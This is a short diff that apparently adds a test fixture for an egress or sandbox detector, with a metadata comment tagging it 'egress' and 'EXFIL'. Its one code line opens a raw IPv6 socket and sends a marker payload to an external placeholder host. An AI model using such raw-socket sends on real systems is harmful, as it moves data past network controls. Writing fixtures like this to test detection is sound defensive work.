@@ -1,0 +1,3 @@
+#: {"class": "egress", "loader": "script", "expect": [["socket|sendto|connect|send", "raw|SOCK_RAW|packet|203\\.0\\.113\\.7"]], "effect": {"sink": ["frame", "EXFIL"]}}
+import socket
+socket.socket(socket.AF_INET6, socket.SOCK_RAW, 253).sendto(b"EXFIL", (EXT6, 0))
